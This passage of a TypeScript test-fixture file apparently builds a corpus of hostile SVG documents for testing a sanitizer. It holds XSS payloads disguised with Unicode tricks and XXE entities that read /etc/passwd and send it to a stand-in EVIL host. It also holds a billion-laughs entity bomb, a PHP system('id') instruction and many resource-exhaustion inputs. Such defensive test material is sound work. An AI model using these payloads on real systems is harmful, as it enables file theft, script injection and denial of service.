  noncharacter: svg('<text>\uFFFF</text>'),
  compressed: bytes([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0]),
  'two byte order marks': `\uFEFF\uFEFF${script}`,
  'right-to-left marks in names': svg('<scr\u202Eipt>alert(1)</scr\u202Eipt>'),
  'full-width letters': svg('<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>'),
  'dotless i': svg('<scrıpt>alert(1)</scrıpt><g onclıck="alert(1)"/>'),
  'long s': svg('<g ſtyle="x" ſrc="x"/><ſcript>alert(1)</ſcript>'),
});

const entityBomb = `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, n) => `<!ENTITY ${'abcdefghijk'[n + 1]} "${`&${'abcdefghijk'[n]};`.repeat(10)}">`).join('')}]>${svg('<text>&j;</text>')}`;

const documentTypes = group('document type', {
  'billion laughs': entityBomb,
  'quadratic blow-up': `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(50_000)}">]>${svg(`<text>${'&a;'.repeat(50_000)}</text>`)}`,
  'file by entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  'address by entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "${EVIL}/e">]>${svg('<text>&x;</text>')}`,
  'public entity': `<!DOCTYPE svg [<!ENTITY x PUBLIC "p" "${EVIL}/e">]>${svg('<text>&x;</text>')}`,
  'parameter entity': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${EVIL}/e.dtd"> %x;]>${svg('')}`,
  'parameter entity in a value': `<!DOCTYPE svg [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '${EVIL}/?%f;'>">%e;%s;]>${svg('')}`,
  'markup in an entity': `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>alert(1)</script>">]>${svg('&x;')}`,
  'script address in an entity': `<!DOCTYPE svg [<!ENTITY x "javascript:alert(1)">]>${svg(`<a href="&x;">${SHAPE}</a>`)}`,
  'handler in an entity': `<!DOCTYPE svg [<!ENTITY x "alert(1)">]>${svg('<g onload="&x;"/>', 'onload="&x;"')}`,
  'namespace in an entity': `<!DOCTYPE svg [<!ENTITY x "http://www.w3.org/1999/xhtml">]>${svg('<img xmlns="&x;" src="x:x" onerror="alert(1)"/>')}`,
  'entity in itself': `<!DOCTYPE svg [<!ENTITY x "&x;">]>${svg('<text>&x;</text>')}`,
  'redefined lt': `<!DOCTYPE svg [<!ENTITY lt "x"><!ENTITY quot "x">]>${svg('<text>&lt;script&gt;</text>')}`,
  'attribute defaults': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${svg('')}`,
  'fixed attributes': `<!DOCTYPE svg [<!ATTLIST rect xmlns:xlink CDATA #FIXED "http://www.w3.org/1999/xlink" xlink:href CDATA "${EVIL}/x">]>${svg('')}`,
  notation: `<!DOCTYPE svg [<!NOTATION x SYSTEM "${EVIL}/x"><!ENTITY y SYSTEM "${EVIL}/y" NDATA x>]>${svg('')}`,
  'external subset': `<!DOCTYPE svg SYSTEM "${EVIL}/x.dtd">${svg('')}`,
  'external subset over a file': `<!DOCTYPE svg SYSTEM "file:///dev/random">${svg('')}`,
  HTML: `<!DOCTYPE html>${svg('<script>alert(1)</script>')}`,
  'HTML entities': svg('<text>&nbsp;&lt&gt</text>'),
  'ten thousand entities': `<!DOCTYPE svg [${Array.from({ length: 10_000 }, (_, n) => `<!ENTITY e${n} "x">`).join('')}]>${svg('')}`,
  'brackets without end': `<!DOCTYPE svg [${'['.repeat(100_000)}`,
  'processing instructions': `<?php system("id"); ?>${svg('<?php echo 1 ?><?import namespace="t"?>')}`,
});

const doubled = (link: (n: number) => string, count = 25): string =>
  Array.from({ length: count }, (_, n) => link(n)).join('');

const exhaustions = group('exhaustion', {
  'doubling uses': svg(
    `<defs><g id="a0">${SHAPE}</g>${doubled((n) => `<g id="a${n + 1}"><use href="#a${n}"/><use href="#a${n}"/></g>`)}</defs><use href="#a25"/>`,
  ),
  'doubling uses by xlink': svg(
    `<defs><g id="a0">${SHAPE}</g>${doubled((n) => `<g id="a${n + 1}"><use xlink:href="#a${n}"/><use xlink:href="#a${n}"/></g>`)}</defs><use xlink:href="#a25"/>`,
  ),
  'doubling symbols': svg(
    `<symbol id="a0">${SHAPE}</symbol>${doubled((n) => `<symbol id="a${n + 1}"><use href="#a${n}"/><use href="#a${n}"/></symbol>`)}<use href="#a25"/>`,
  ),
  'doubling nested svgs': svg(
    `<svg id="a0">${SHAPE}</svg>${doubled((n) => `<svg id="a${n + 1}"><use href="#a${n}"/><use href="#a${n}"/></svg>`)}`,
  ),
  'doubling patterns': svg(
    `${doubled((n) => `<pattern id="p${n + 1}" width="1" height="1"><rect width="9" height="9" fill="url(#p${n})"/><rect width="9" height="9" fill="url(#p${n})"/></pattern>`)}<rect width="9" height="9" fill="url(#p25)"/>`,
  ),
  'doubling masks': svg(
    `${doubled((n) => `<mask id="m${n + 1}"><rect width="9" height="9" mask="url(#m${n})"/><rect width="9" height="9" mask="url(#m${n})"/></mask>`)}<rect width="9" height="9" mask="url(#m25)"/>`,
  ),
  'doubling clips': svg(
    `${doubled((n) => `<clipPath id="m${n + 1}"><rect width="9" height="9" clip-path="url(#m${n})"/><rect width="9" height="9" clip-path="url(#m${n})"/></clipPath>`)}<rect width="9" height="9" clip-path="url(#m25)"/>`,
  ),
  'doubling markers': svg(
    `${doubled((n) => `<marker id="m${n + 1}"><path d="M0 0h1v1" marker-mid="url(#m${n})" marker-end="url(#m${n})"/></marker>`)}<path d="M0 0h1v1" marker-end="url(#m25)"/>`,
  ),
  'doubling by styles': svg(
    `<defs><g id="a0">${SHAPE}</g>${doubled((n) => `<mask id="a${n + 1}"><g style="mask:url(#a${n})">${SHAPE}</g><g style="mask:url(#a${n})">${SHAPE}</g></mask>`)}</defs><rect width="9" height="9" style="mask:url(#a25)"/>`,
  ),
  'long chain of uses': svg(
    `<g id="a0">${SHAPE}</g>${doubled((n) => `<g id="a${n + 1}"><use href="#a${n}"/></g>`, 3000)}`,
  ),
  'markers on many corners': svg(
    `<marker id="m"><g>${SHAPE.repeat(50)}</g></marker><path marker-mid="url(#m)" d="M0 0${'h1'.repeat(20_000)}"/>`,
  ),
  'use of itself': svg('<use id="a" href="#a"/>'),
  'use of its parent': svg('<g id="a"><use href="#a"/></g>'),
  'pattern of itself': svg(
    '<pattern id="p" width="1" height="1"><rect width="9" height="9" fill="url(#p)"/></pattern><rect width="9" height="9" fill="url(#p)"/>',
  ),
  'filter over all': svg(
    `<filter id="f">${'<feTurbulence numOctaves="9" baseFrequency=".01"/>'.repeat(60)}</filter>${'<rect width="24" height="24" filter="url(#f)"/>'.repeat(3000)}`,
  ),
  'deep nesting': `<svg ${NS}>${'<g>'.repeat(100_000)}`,
  'deep nesting of dropped elements': `<svg ${NS}>${'<x>'.repeat(100_000)}`,
  'many elements': svg('<g/>'.repeat(200_000)),
  'many attributes': svg(`<g ${Array.from({ length: 50_000 }, (_, n) => `a${n}=""`).join(' ')}/>`),
  'many namespaces': svg(`<g ${Array.from({ length: 20_000 }, (_, n) => `xmlns:n${n}="u${n}"`).join(' ')}/>`),
  'long name': svg(`<${'a'.repeat(500_000)}/>`),
  'long attribute name': svg(`<g ${'a'.repeat(500_000)}=""/>`),
  'long comment': svg(`<!--${' -'.repeat(200_000)}-->`),
  'long text': svg(`<text>${'x'.repeat(900_000)}</text>`),
  'long path': svg(`<path d="${'M1 1h1'.repeat(150_000)}"/>`),
  'larger than permitted': svg(`<path d="${'M1 1'.repeat(400_000)}"/>`),
  'long number': svg(`<rect width="${'9'.repeat(500_000)}" height="1"/>`),
  'long fraction': svg(`<path d="M0.${'1'.repeat(500_000)} 1"/>`),
  'huge numbers': svg(
    '<path d="M1e38 1e38L-1e38 9e37" stroke="red" stroke-width="1e30"/><rect width="1e300" height="1e300"/>',
  ),
  'huge exponents': svg('<path d="M1e999999999 1"/><circle r="1e99999"/>'),
  'tiny dashes': svg('<path d="M0 0H1000000" stroke="red" stroke-dasharray=".0000001"/>'),
  'tiny dashes in a style': svg('<path d="M0 0H1000000" style="stroke:red;stroke-dasharray:1e-9 1e-9"/>'),
  'wide blur': svg(
    '<filter id="f"><feGaussianBlur stdDeviation="1000000"/></filter><rect filter="url(#f)" width="9" height="9"/>',
  ),
  'wide morphology': svg(
    '<filter id="f"><feMorphology operator="dilate" radius="999999"/></filter><rect filter="url(#f)" width="9" height="9"/>',
  ),
  'large convolution': svg(
    `<filter id="f"><feConvolveMatrix order="99" kernelMatrix="${'1 '.repeat(5000)}"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  ),
  'large filter region': svg(
    '<filter id="f" x="-1000000%" y="-1000000%" width="9000000%" height="9000000%"><feFlood/></filter><rect filter="url(#f)" width="9" height="9"/>',
  ),
  'many octaves': svg(
    '<filter id="f"><feTurbulence numOctaves="9999" baseFrequency="9999"/></filter><rect filter="url(#f)" width="9" height="9"/>',
  ),
  'many animations': svg(
    `<rect width="9" height="9">${'<animate attributeName="x" values="0;1" dur="0.001s" repeatCount="indefinite"/>'.repeat(20_000)}</rect>`,
  ),
  'large picture': `<svg ${NS} width="1000000" height="1000000" viewBox="0 0 1 1">${SHAPE}</svg>`,
  'tiny box': `<svg ${NS} viewBox="0 0 1e-30 1e-30">${SHAPE}</svg>`,
  'no box': `<svg ${NS} viewBox="0 0 0 0">${SHAPE}</svg>`,
  'many style rules': svg(`<style>${'rect{fill:red}'.repeat(9_000)}</style>`),
  'long style sheet': svg(`<style>${'/* */'.repeat(100_000)}</style>`),
  'costly selectors': svg(
    `<style>${Array.from({ length: 900 }, () => 'g g g g g g g g g x{fill:red}').join('')}</style>${'<g>'.repeat(60)}${'<rect/>'.repeat(5000)}${'</g>'.repeat(60)}`,
  ),
  'costly siblings': svg(
    `<style>${'rect~rect~rect~rect~x,rect~rect~rect~rect~y{fill:red}'.repeat(50)}</style>${'<rect/>'.repeat(3000)}`,
  ),
  'deep brackets in a style': svg(`<rect style="fill:${'('.repeat(10_000)}"/>`),
  'deep brackets in a sheet': svg(`<style>${'a{'.repeat(50_000)}</style>`),
  'deep not': svg(`<style>${':not('.repeat(20_000)}</style>`),
  'doubling variables': svg(
    `<style>svg{--v0:red red;${doubled((n) => `--v${n + 1}:var(--v${n}) var(--v${n});`)}}rect{fill:var(--v25)}</style>`,
  ),
  'tripling fallbacks': svg(
    `<style>svg{${doubled((n) => `--v${n + 1}:var(--v${n},var(--v${n},var(--v${n})));`)}}rect{fill:var(--v25)}</style>`,
  ),
  'variable of itself': svg('<style>svg{--a:var(--b);--b:var(--a)}rect{fill:var(--a)}</style>'),
  'long list of classes': svg(
    `<rect class="${'a '.repeat(100_000)}"/><style>${'.b{fill:red}'.repeat(900)}</style>`,
  ),
  'long timing list': svg(
    `<rect width="9" height="9"><set attributeName="fill" to="red" begin="${'1s;'.repeat(5_000)}"/></rect>`,
  ),
  'slow for regular expressions: colors': svg(
    `<rect fill="rgb(${' '.repeat(15_000)}" stroke="${'a'.repeat(15_000)}!"/>`,
  ),
  'slow for regular expressions: urls': svg(
    `<rect fill="${'url( '.repeat(3_000)}" filter="${'blur( '.repeat(2_000)}"/>`,
  ),
  'slow for regular expressions: transforms': svg(
    `<g transform="${'rotate(1'.repeat(2_000)}" style="transform:${'translate(1)'.repeat(1_000)}!"/>`,
  ),
  'slow for regular expressions: numbers': svg(
    `<rect x="${'1 '.repeat(8_000)}!" stroke-dasharray="${'1,'.repeat(8_000)}!" width="${'1'.repeat(16_000)}!"/>`,
  ),
  'slow for regular expressions: timing': svg(
    `<rect width="9" height="9"><set attributeName="x" to="1" begin="${'a'.repeat(16_000)}" end="${'1:'.repeat(8_000)}"/></rect>`,
  ),
  'slow for regular expressions: animations': svg(
    `<rect width="9" height="9" style="animation:${'steps('.repeat(2_500)}"/><rect style="animation:${'a,'.repeat(8_000)}"/>`,
  ),
});

export const HOSTILE_DOCUMENTS: readonly HostileDocument[] = [
  ...scripts,
  ...handlers,
  ...foreign,
  ...mutations,
  ...links,
  ...loads,
  ...styles,
  ...animations,
  ...pages,
  ...encodings,
  ...documentTypes,
  ...exhaustions,
  ...HOSTILE_EXTREMES,
];
